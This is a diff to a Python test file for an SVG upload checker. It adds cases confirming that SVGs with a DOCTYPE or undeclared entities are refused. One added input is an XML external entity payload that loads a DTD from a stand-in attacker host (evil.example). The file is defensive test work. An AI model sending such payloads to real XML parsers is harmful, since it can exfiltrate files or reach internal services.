@@ -197,6 +197,8 @@ def test_an_embedded_svg_image_is_dropped_not_kept():
     b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><text>&xxe;</text></svg>',
     b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
     b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"/>',
+    b'<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
+    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"/>',
 ])
 def test_check_upload_refuses_an_svg_with_a_doctype(document):
     assert refusal(document, "badge.svg") == "svg_doctype"
@@ -228,6 +230,7 @@ def test_check_upload_accepts_a_square_svg(attributes, side):
     b"<svg viewBox='0 0 10 10'></svg>",                                            # no SVG namespace
     b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',                   # not an svg root
     b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><g></svg>',        # not well-formed
+    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">&xxe;</svg>',      # an entity never declared
     b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><text>\xff</text></svg>',   # not UTF-8
 ])
 def test_check_upload_refuses_what_is_not_a_well_formed_svg(document):
